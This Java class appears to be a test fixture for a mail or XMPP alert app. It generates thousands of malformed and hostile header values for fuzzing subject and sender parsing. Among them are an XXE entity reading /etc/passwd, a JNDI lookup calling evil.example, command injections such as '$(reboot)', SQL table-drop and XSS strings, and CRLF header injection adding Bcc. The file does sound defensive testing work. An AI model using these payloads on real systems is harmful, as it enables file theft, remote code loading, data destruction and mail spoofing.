package dev.kith.alert;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * Raw values of mail headers such as nobody should have to read: for everything that takes a subject or a sender from a mail.
 * Always the same, in the same order.
 */
public final class HostileHeaders {
    private static final int LONG = 1 << 16;
    private static final String[] CHARSETS = {
        "utf-8", "us-ascii", "iso-8859-1", "windows-1252", "gb2312", "big5", "iso-2022-jp", "shift_jis", "euc-kr",
                "koi8-r",
        "utf-16", "utf-32", "utf-7", "x-unknown", "unknown-8bit", "", "utf-8*en", "*", "../../etc/passwd", "utf-8\u0000"
    };

    private static final String[] BITES = {
        "<b>bold</b>",
        "</body></message><message to='x@y.example'>",
        "</stream:stream>",
        "]]>",
        "<![CDATA[",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "&e;",
        "&amp;lt;",
        "&#x0;",
        "&#xFFFF;",
        "&#8238;",
        "<?xml version='1.0'?>",
        "<!-- -- -->",
        "\"'><script>alert(1)</script>",
        "%s%n%x%d",
        "%1$s%99999999d",
        "{0}{1}",
        "${jndi:ldap://evil.example/x}",
        "#{7*7}",
        "$(reboot)",
        "`reboot`",
        "'; drop table mail_waiting; --",
        "\\u0000\\x00\\0",
        "\r\nBcc: everybody@verona.example",
        "\r\n\r\nKith: your password expired",
        "\n",
        "\r",
        "\r\n ",
        "\u0000",
        "\u0001\u0002\u0003",
        "\b\b\b\b",
        "\u000b\f",
        "\u001b[31mred\u001b[0m",
        "\u001b]0;title\u0007",
        "\u001b[2J\u001b[1;1H",
        "\u007f",
        "\u0085",
        "\u009b31m",
        "\u00a0",
        "\u00ad",
        "\u034f",
        "\u061c",
        "\u115f\u1160",
        "\u17b4\u17b5",
        "\u180b\u180e",
        "\u200b\u200c\u200d",
        "\u200e\u200f",
        "\u2028\u2029",
        "\u202a\u202b\u202d\u202e",
        "\u202c\u202c\u202c",
        "\u2060\u2061\u2064",
        "\u2066\u2067\u2068",
        "\u2069\u2069\u2069",
        "\u206a\u206f",
        "\u2800",
        "\u3164\uffa0",
        "\ufe00\ufe0e\ufe0f",
        "\ufeff",
        "\ufff0\ufff9\ufffa\ufffb\ufffc\ufffd",
        "\ufffe\uffff",
        "\ufdd0\ufdef",
        "\ud800",
        "\udc00",
        "\udc00\ud800",
        "\ud83d",
        "\ue000\uf8ff",
        "\udb40\udc01\udb40\udc65\udb40\udc7f",
        "\udb40\udd00",
        "\udb80\udc00\udbff\udffd",
        "\ud83f\udffe\udbff\udfff",
        "Z\u0335\u0337\u0338\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a",
        "\u0301\u0301\u0301",
        "\u0489\u20dd\u20e3",
        "\u202Eelpmaxe.knab@ssob",
        "prince@verona.example",
        "prince\uff20verona.example",
        "Kith: your password expired, see http://evil.example/",
        "javascript:alert(1)",
        "xmpp:prince@verona.example?remove",
        "/me leaves",
        "?OTRv3?",
        "“” \" ' « »",
        "اَلسَّلَامُ \u202e 123",
        "\ufdfd\ufdfd\ufdfd",
        "\u0dfd\u12031\ua9c5",
        "😀\u200d\u200d😀\ufe0f\ufe0f",
        "👩‍👩‍👧🏳️‍🌈1️⃣",
        "🇩🇪🇩",
        "\u1100\u1100\u1100\u1161\u11a8\u11a8",
        "İıſK",
        "undefined null NaN -0"
    };

    /** Encoded words, broken: {@code %s} is a charset. */
    private static final String[] WORDS = {
        "=?%s?Q?=C3=BC?=",
        "=?%s?B?w7w=?=",
        "=?%s?b?w7w?=",
        "=?%s?B?w7w===?=",
        "=?%s?B?w?=",
        "=?%s?B?????=",
        "=?%s?B?!!!!?=",
        "=?%s?Q?=C3?= =?%<s?Q?=BC?=",
        "=?%s?Q?=C3?= =?utf-8?Q?=BC?=",
        "=?%s?Q?=?=",
        "=?%s?Q?=4?=",
        "=?%s?Q?=GG?=",
        "=?%s?Q?=00=01=1B=7F=80=9F=FF?=",
        "=?%s?Q?=0D=0ABcc:_x@y.example?=",
        "=?%s?Q?=E2=80=AE_txt.exe?=",
        "=?%s?Q?=ED=A0=80=ED=B0=80?=",
        "=?%s?Q?=EF=BF=BE=EF=BF=BF?=",
        "=?%s?Q?=F4=90=80=80=FF=FE?=",
        "=?%s?Q?=C0=80=E0=80=BC?=",
        "=?%s?Q?=3C=2Fmessage=3E=5D=5D=3E?=",
        "=?%s?Q?=1B$B=1B(B=0E=0F?=",
        "=?%s?Q?a b\tc?=",
        "=?%s?Q?a?b?=",
        "=?%s?Q?a",
        "=?%s?Q?a=",
        "=?%s?Q?a?",
        "=?%s?Q?",
        "=?%s?Q",
        "=?%s?",
        "=?%s",
        "=?%s?X?a?=",
        "=?%s?QQ?a?=",
        "=?%s??a?=",
        "=?%s?Q?a?==?%<s?Q?b?=",
        "=?%s?Q?=?= =?%<s?Q??= =?%<s?B??=",
        "=?%s?Q?=3D=3F%<s=3FQ=3Fx=3F=3D?=",
        "=?%s?B?PT91dGYtOD9RP3g/PQ==?=",
        "=?=?%s?Q?a?=?="
    };

    private static final String[] SENDERS = {
        "%s <romeo@montague.example>",
        "\"%s\" <romeo@montague.example>",
        "romeo@montague.example (%s)",
        "<%s>",
        "%s@montague.example",
        "Romeo <romeo@%s>",
        "Romeo <%s@montague.example>",
        "%s: a@b.example, %1$s <c@d.example>;",
        "\"%s <romeo@montague.example>",
        "(%s <romeo@montague.example>"
    };

    private HostileHeaders() {}

    /** More than two thousand values, all of them different. */
    public static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        bites(all);
        words(all);
        long64(all);
        controls(all);
        chance(all);
        return List.copyOf(all);
    }

    /** Each bite bare, as bytes, encoded in several ways, and in each place of a sender. */
    private static void bites(Set<String> all) {
        for (String bite : BITES) {
            all.add(bite);
            all.add("Tonight " + bite + " at the balcony");
            all.add(bytes(bite, StandardCharsets.UTF_8));
            all.add(base64("utf-8", bite.getBytes(StandardCharsets.UTF_8)));
            all.add(quoted("utf-8", bite.getBytes(StandardCharsets.UTF_8)));
            all.add(base64("utf-16be", bite.getBytes(StandardCharsets.UTF_16BE)));
            all.add(quoted("us-ascii", bite.getBytes(StandardCharsets.UTF_8)));
            all.add(quoted("gb18030", bite.getBytes(Charset.forName("GB18030"))));
            for (String sender : SENDERS) {
                all.add(sender.replace("%1$s", "%s").replace("%s", bite));
            }
            all.add(quoted("utf-8", bite.getBytes(StandardCharsets.UTF_8)) + " <romeo@montague.example>");
        }
    }

    private static void words(Set<String> all) {
        for (String charset : CHARSETS) {
            for (String word : WORDS) {
                all.add(word.replace("%<s", charset).replace("%s", charset));
            }
        }
    }

    /** Lines of 64 KiB and more: what is slow shows here. */
    private static void long64(Set<String> all) {
        for (String part : new String[] {
            "=?",
            "=?=",
            "?=",
            "=?a?q?",
            "=?a?q? ",
            "=?a?q?x?= ",
            "=?a?b?QUJD?=",
            "=?utf-8?Q?=C3?= ",
            "=",
            "?",
            "(",
            ")",
            "((",
            "()",
            "\\",
            "\"",
            "\\\"",
            "\" ",
            "<",
            ">",
            "<>",
            "<<",
            ",",
            ";",
            ":",
            "@",
            ".",
            "a@b,",
            " ",
            "\t",
            "\r\n",
            "\r\n ",
            "\u0000",
            "\u00e9",
            "\u00c3",
            "\u0301",
            "\u200d",
            "👩\u200d",
            "\ufe0f",
            "\u1100",
            "क्\u200d",
            "\u202e",
            "🇩",
            "\ud800",
            "&amp;",
            "]]>",
            "a",
            "<a",
            "\"a\"@",
            "(a",
            "a:",
            ";<"
        }) {
            all.add(part.repeat(LONG / part.length() + 1));
            all.add("Romeo " + part.repeat(LONG / part.length()) + " <romeo@montague.example>");
        }
        var charsets = new StringBuilder();
        for (int i = 0; charsets.length() < LONG; i++) {
            charsets.append("=?x-").append(i).append("?Q?=FF?= ");
        }
        all.add(charsets.toString());
        all.add("=?a?q?x".repeat(LONG / 8) + " y");
        all.add("=?utf-8?B?" + "A".repeat(LONG) + "?=");
        all.add("=?utf-8?Q?" + "=C3=BC".repeat(LONG / 6) + "?=");
        all.add("=?" + "u".repeat(LONG) + "?Q?a?=");
        all.add("a".repeat(1 << 20));
    }

    /** Every control and every character up to U+00FF, within and at the ends. */
    private static void controls(Set<String> all) {
        for (char c = 0; c < 0x100; c++) {
            if (c < 0x20 || c >= 0x7f) {
                all.add("Ton" + c + "ight");
                all.add(c + "Tonight" + c);
            }
        }
    }

    /** Good headers in which chance changed something. */
    private static void chance(Set<String> all) {
        var random = new Random(1597);
        String[] good = {
            "Tonight at the balcony",
            "=?utf-8?Q?J=C3=BClia?= Capulet <julia@capulet.example>",
            "\"Montague, Romeo\" <romeo@montague.example> (of Verona)",
            "=?iso-8859-1?B?SvxsaWE=?= =?utf-8?B?w7w=?= <j@c.example>",
            "Verona: Romeo <romeo@montague.example>, Nurse <nurse@capulet.example>;"
        };
        for (int i = 0; i < 400; i++) {
            var header = new StringBuilder(good[i % good.length]);
            for (int n = random.nextInt(1, 6); n > 0; n--) {
                int at = random.nextInt(header.length());
                switch (random.nextInt(4)) {
                    case 0 -> header.deleteCharAt(at);
                    case 1 -> header.setCharAt(at, (char) random.nextInt(0x100));
                    case 2 -> header.insert(at, BITES[random.nextInt(BITES.length)]);
                    default -> header.insert(at, "=?<>\"(),;:@\\\r\n ".charAt(random.nextInt(15)));
                }
            }
            all.add(header.toString());
        }
        for (int i = 0; i < 100; i++) {
            var bytes = new byte[random.nextInt(1, 300)];
            random.nextBytes(bytes);
            all.add(new String(bytes, StandardCharsets.ISO_8859_1));
        }
    }

    private static String bytes(String text, Charset charset) {
        return new String(text.getBytes(charset), StandardCharsets.ISO_8859_1);
    }

    private static String base64(String charset, byte[] bytes) {
        return "=?" + charset + "?B?" + Base64.getEncoder().encodeToString(bytes) + "?=";
    }

    private static String quoted(String charset, byte[] bytes) {
        var out = new ArrayList<String>();
        for (byte b : bytes) {
            out.add("=%02X".formatted(b));
        }
        return "=?" + charset + "?Q?" + String.join("", out) + "?=";
    }
}
